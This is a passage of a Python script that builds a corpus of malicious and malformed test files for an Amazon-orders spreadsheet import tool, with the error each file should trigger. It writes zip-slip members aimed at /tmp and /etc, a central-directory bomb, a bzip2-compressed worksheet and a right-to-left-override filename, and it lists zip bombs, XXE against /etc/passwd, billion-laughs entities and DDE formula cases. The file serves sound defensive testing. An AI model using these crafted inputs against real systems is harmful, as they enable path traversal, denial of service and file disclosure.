    """1.5 MB of valid orders, run with `taille_max_mo = 1`."""
    rows = [X.row(order_id=X.order_id(i), product_name=f"Article n° {i} " + "x" * 300) for i in range(1500)]
    X.write_txt(path, rows)
    assert MB < path.stat().st_size < 2 * MB
    return path


def make_over_rows(path: Path) -> Path:
    """Twelve orders, run with `lignes_max = 10`."""
    return X.write_csv(path, [X.row(order_id=X.order_id(i)) for i in range(12)])


def make_zip_slip(path: Path) -> Path:
    """A valid workbook carrying extra members named `../../../tmp/...` and `/etc/...`: nothing is extracted."""
    members = xlsx_members([X.row()])
    members.append(Member.of("../../../../tmp/amazon-addin-zip-slip.txt", b"pwned\n"))
    members.append(Member.of("/etc/amazon-addin-zip-slip.txt", b"pwned\n"))
    return write_zip(path, members)


def make_bzip2_member(path: Path) -> Path:
    """The worksheet compressed with a method Excel never uses (bzip2, 12), which can hide huge ratios."""
    import bz2

    members = xlsx_members([X.row()])
    text = part(members, "xl/worksheets/sheet1.xml")
    members = replace_member(members, Member("xl/worksheets/sheet1.xml", bz2.compress(text), zlib.crc32(text),
                                             len(text), 12))
    return write_zip(path, members)


def make_many_members(path: Path) -> Path:
    """A valid workbook plus 60 000 tiny members (a central directory bomb)."""
    members = xlsx_members([X.row()])
    for k in range(60000):
        members.append(Member(f"xl/media/m{k}.bin", b"", 0, 0, 0))
    return write_zip(path, members)


def make_utf16(path: Path) -> Path:
    """Excel's "Unicode text": UTF-16 LE with a BOM (full of NUL bytes, yet a fine export)."""
    return X.write_txt(path, [X.row()], encoding="utf-16")


def make_bidi(path: Path) -> Path:
    """A right-to-left override hiding the real end of a name (`Cécile\u202egpj.exe`)."""
    return X.write_txt(path, [X.row(buyer_name="Cécile\u202egpj.exe", recipient_name="Cécile\u202egpj.exe")])


def make_lone_quote_csv(path: Path) -> Path:
    """A French csv whose second row starts a field with an unclosed quote: with Excel's quoting it swallows
    the rest of the file into one cell. The rows swallowed must not vanish silently."""
    rows = [X.row(), X.row(order_id=X.order_id(9), buyer_name='"Le Chat'),
            X.row(order_id=X.order_id(10)), X.row(order_id=X.order_id(11))]
    path = Path(path)
    lines = [";".join(X.HEADER)] + [";".join(c) for c in X.cells(rows)]
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8"))
    return path


def make_wide_row(path: Path) -> Path:
    """A header followed by 100 000 extra unknown columns."""
    header = X.HEADER + [f"col-{k}" for k in range(100000)]
    r = list(X.cells([X.row()])[0]) + ["v"] * 100000
    return X.write_txt(path, [r], header=header)


# ---------------------------------------------------------------------------------------- the cases

SIZE_LIMIT = "taille_max_mo = 1\n"
ROWS_LIMIT = "lignes_max = 10\n"
NOT_A_REPORT = "pas un rapport de commandes Amazon"
DAMAGED = "endommagé"
SPAN = "s'étend jusqu'à la cellule"
NOT_A_FILE = "n'est pas un fichier"
DTD = "déclare une DTD"

CASES = [
    # (maker, Case) -- broken archives
    (make_truncated_xlsx, Case("tronque.xlsx", "xlsx coupé à la moitié", 2, DAMAGED)),
    (make_corrupt_sheet, Case("feuille-abimee.xlsx", "xlsx dont la feuille a des octets brouillés", 2, DAMAGED)),
    (make_bad_crc, Case("crc-faux.xlsx", "xlsx dont le CRC de la feuille est faux", 2, DAMAGED)),
    (make_huge_directory, Case("repertoire.xlsx", "fin d'archive annonçant un répertoire de 100 Mo", 2,
                               "répertoire de parties démesuré")),
    (make_many_members, Case("membres.xlsx", "60 000 parties dans l'archive", 2, "parties")),
    (make_bzip2_member, Case("bzip2.xlsx", "feuille compressée en bzip2 (méthode qu'Excel n'emploie pas)", 2,
                             "méthode de compression")),
    (make_zip_encrypted_flag, Case("zip-chiffre.xlsx", "parties marquées chiffrées (mot de passe zip)", 2,
                                   "mot de passe")),
    # zip bombs
    (make_zip_bomb, Case("bombe.xlsx", "bombe zip : sharedStrings.xml de 1 Go dans 1 Mo", 2, "bombe zip",
                         integrer=True)),
    (make_overlapping_zip_bomb, Case("bombe-superposee.xlsx",
                                     "bombe zip non récursive : 24 entrées sur les mêmes 0,9 Mo (6 Go)", 2,
                                     "bombe zip")),
    (make_lying_zip_bomb, Case("bombe-menteuse.xlsx", "bombe zip dont les en-têtes annoncent une petite taille "
                                                      "(calamine s'arrête à la taille annoncée)", 2, DAMAGED,
                               integrer=True)),
    # XML
    (make_billion_laughs, Case("entites.xlsx", "« billion laughs » dans sharedStrings.xml", 2, DTD,
                               integrer=True)),
    (make_billion_laughs_workbook, Case("entites-classeur.xlsx", "« billion laughs » dans workbook.xml", 2, DTD)),
    (make_xxe, Case("xxe.xlsx", "entité externe (XXE) vers /etc/passwd dans la feuille", 2, DTD)),
    (make_commented_dtd, Case("entites-commentees.xlsx", "un commentaire puis la DTD", 2, DTD)),
    (make_long_prolog, Case("preambule.xlsx", "DTD cachée derrière 2 Mo de commentaires XML", 2, "préambule")),
    (make_utf16_part, Case("utf16-partie.xlsx", "feuille encodée en UTF-16", 2, "UTF-16")),
    (make_zip_slip, Case("zip-slip.xlsx", "parties nommées ../../../tmp/… et /etc/… : rien n'est extrait", 0,
                         orders=1)),
    (make_encrypted, Case("protege.xlsx", "classeur protégé par un mot de passe (chiffrement Office)", 2,
                          "mot de passe")),
    (make_xls_with_macros, Case("macros.xls", "xls avec un projet VBA (_VBA_PROJECT_CUR) : lu, jamais exécuté",
                                0, orders=1)),
    # size of cells and of the used range
    (make_big_cell_xlsx, Case("cellule-10mo.xlsx", "désignation de 10 Mo dans un classeur", 0, orders=1)),
    (make_big_cell_txt, Case("cellule-10mo.txt", "désignation de 10 Mo dans un .txt", 0, orders=1)),
    (make_million_rows, Case("million-lignes.xlsx", "plage utilisée A1:BD1048576 (une cellule vide mise en "
                                                    "forme en BD1048576) : lu", 0, orders=1)),
    (make_million_empty_cells, Case("million-cellules-vides.xlsx",
                                    "un million de lignes de cellules vides mises en forme : lu", 0, orders=1)),
    (make_far_empty_string, Case("million-chaine-vide.xlsx", "formule =\"\" en BD1048576 (valeur : texte "
                                                             "vide) : 58 millions de cellules", 2, SPAN)),
    (make_million_empty_strings, Case("million-textes-vides.xlsx", "un million de lignes dont A est un texte "
                                                                   "vide", 2, SPAN)),
    (make_far_cell, Case("cellule-xfd.xlsx", "une valeur en XFD1048576 (17 milliards de cellules)", 2, SPAN,
                         integrer=True)),
    (make_lying_dimension, Case("dimension-menteuse.xlsx", "la même, sous <dimension ref=\"A1:AV2\"/>", 2, SPAN)),
    (make_duplicate_ref, Case("attribut-double.xlsx", "<c r=\"A3\" r=\"XFD1048576\"> : le dernier r compte", 2,
                              SPAN)),
    (make_spaced_ref, Case("attribut-espace.xlsx", "<c t=… r = 'BD1048576'> : ordre, espaces, apostrophes", 2,
                           SPAN)),
    (make_rowless_far, Case("sans-adresse-loin.xlsx", "60 cellules sans r dans <row r=\"1048576\">", 2, SPAN)),
    (make_prefixed_far, Case("prefixe-loin.xlsx", "<x:c r=\"XFD1048576\"> dans une feuille préfixée", 2, SPAN)),
    (make_prefixed, Case("prefixe.xlsx", "feuille préfixée x: (Open XML SDK), deux commandes : lue", 0,
                         orders=2)),
    (make_unaddressed, Case("sans-adresse.xlsx", "cellules sans r, deux commandes : lues", 0, orders=2)),
    (make_decoy_sheet, Case("feuille-leurre.xlsx", "cible de relation lue telle quelle par calamine, leurre "
                                                   "propre à l'adresse normalisée", 2, SPAN)),
    (make_far_xls, Case("lointain.xls", "xls de 6 Ko avec une valeur en IV65536", 2, SPAN)),
    (make_big_lying_xls, Case("grand-menteur.xls", "xls de 1,5 Mo, DIMENSIONS menteur, une valeur en IV65536 : "
                                                   "lu à part, qui échoue, puis expliqué", 2, SPAN)),
    # formulas: text, never computed
    (make_formulas_txt, Case("formules.txt", "formules et charge DDE dans les champs d'un .txt", 1,
                             codes=("E_QUANTITE", "E_DEVISE", "E_PAYS"),
                             texts=(FORMULAS["quantity-purchased"], FORMULAS["ship-country"],
                                    FORMULAS["currency"]), integrer=True, orders=1)),
    (make_formulas_csv, Case("formules.csv", "formules et charge DDE dans les champs d'un .csv", 1,
                             codes=("E_QUANTITE", "E_DEVISE", "E_PAYS"),
                             texts=(FORMULAS["quantity-purchased"], FORMULAS["ship-country"],
                                    FORMULAS["currency"]), orders=1)),
    (make_formulas_xlsx_text, Case("formules-texte.xlsx", "textes de formules dans des cellules texte", 1,
                                   codes=("E_QUANTITE", "E_DEVISE", "E_PAYS"),
                                   texts=(FORMULAS["quantity-purchased"], FORMULAS["ship-country"]), orders=1)),
    (make_formulas_xlsx_cells, Case("formules-cellules.xlsx", "vraies formules (=1+1, DDE) sans valeur en cache",
                                    1, codes=("E_CHAMP_VIDE",), orders=1)),
    # text
    (make_nul_bytes, Case("nul.txt", "octets NUL dans un nom et une adresse", 1, codes=("E_CARACTERES",),
                          integrer=True, orders=1)),
    (make_invalid_utf8, Case("utf8-invalide.txt", "UTF-8 invalide (0x81, 0xC3 0x28, 0xFF)", 1,
                             codes=("E_CARACTERES",), orders=1)),
    (make_mixed_encodings, Case("encodages-melanges.txt", "une ligne UTF-8 et une ligne cp1252 dans un fichier",
                                1, codes=("E_CARACTERES",), orders=2)),
    (make_bidi, Case("bidi.txt", "caractère de contrôle bidirectionnel U+202E dans un nom", 1,
                     codes=("E_CARACTERES",), orders=1)),
    (make_utf16, Case("unicode.txt", "texte Unicode d'Excel (UTF-16 avec BOM)", 0, orders=1)),
    (make_lone_quote_csv, Case("guillemet.csv", "guillemet ouvrant non fermé : la fin du fichier tombe dans une "
                                                "cellule, signalée, rien d'intégrable", 1, codes=("E_CARACTERES",),
                               orders=2)),
    (make_wide_row, Case("large.txt", "100 000 colonnes inconnues en plus", 0, orders=1)),
    # layout and values
    (make_duplicated_headers, Case("entetes-doubles.txt", "colonnes sku et item-price en double (la première "
                                                          "compte)", 0, orders=1)),
    (make_shifted_headers, Case("entete-decale.xlsx", "en-tête en ligne 3 et colonne A vide en plus", 0,
                                orders=2)),
    (make_header_only, Case("entete-seul.txt", "la ligne d'en-tête seule : aucune commande (SPEC §1)", 1,
                            codes=("E_AUCUNE_COMMANDE",), orders=0, integrer=True)),
    (make_1904, Case("calendrier-1904.xlsx", "classeur au calendrier 1904, dates en nombres", 0, orders=2)),
    (make_bad_quantities, Case("quantites.txt", "quantités -1, 1.5 et 0,5", 1, codes=("E_QUANTITE",), orders=3)),
    (make_thousands, Case("milliers.csv", "montants 1 234,56 / 1.234,56 / 1 234,56 (espace insécable)", 0,
                          orders=3)),
    # not a report at all
    (make_empty, Case("vide.txt", "fichier vide", 2, "vide")),
    (make_binary_txt, Case("binaire.txt", "64 Ko d'octets aléatoires nommés .txt", 2, NOT_A_REPORT)),
    (make_nul_heavy_txt, Case("nuls.txt", "image suivie de 4 Ko d'octets NUL, nommée .txt", 2, "données binaires")),
    (make_png_xlsx, Case("image.xlsx", "une image PNG nommée .xlsx", 2, "pas un vrai fichier Excel")),
    (make_directory, Case("dossier.xlsx", "un dossier", 2, NOT_A_FILE)),
    (make_newline_name, Case("ligne\ncoupée.txt", "un dossier dont le nom contient un saut de ligne", 2,
                             NOT_A_FILE)),
    (make_fifo, Case("tube.txt", "un tube nommé (FIFO) : jamais ouvert", 2, NOT_A_FILE)),
    (make_device_link, Case("zeros.txt", "lien symbolique vers /dev/zero", 2, NOT_A_FILE)),
    # limits from the settings
    (make_over_size, Case("trop-gros.txt", "1,5 Mo avec taille_max_mo = 1", 2, "taille_max_mo", config=SIZE_LIMIT,
                          integrer=True)),
    (make_over_rows, Case("trop-long.csv", "12 lignes avec lignes_max = 10", 2, "lignes_max", config=ROWS_LIMIT)),
]


def build(directory) -> list[Case]:
    """Write every case into `directory`; return the cases with their `path` (and `config_path`) set."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    out = []
    for maker, case in CASES:
        case = Case(**{k: v for k, v in case.__dict__.items()})
        case.path = maker(directory / case.name)
        if case.config is not None:
            case.config_path = directory / f"{case.name}.toml"
            case.config_path.write_text(case.config, encoding="utf-8")
        out.append(case)
    return out


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        sys.stderr.write("usage : build_corpus.py DOSSIER\n")
        return 2
    for c in build(argv[0]):
        expect = {2: f"« {c.sentence} »", 1: ", ".join(c.codes) or "des erreurs", 0: "rien"}[c.exit]
        sys.stdout.write(f"{c.name:<28} exit {c.exit}  {expect:<40} {c.what}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
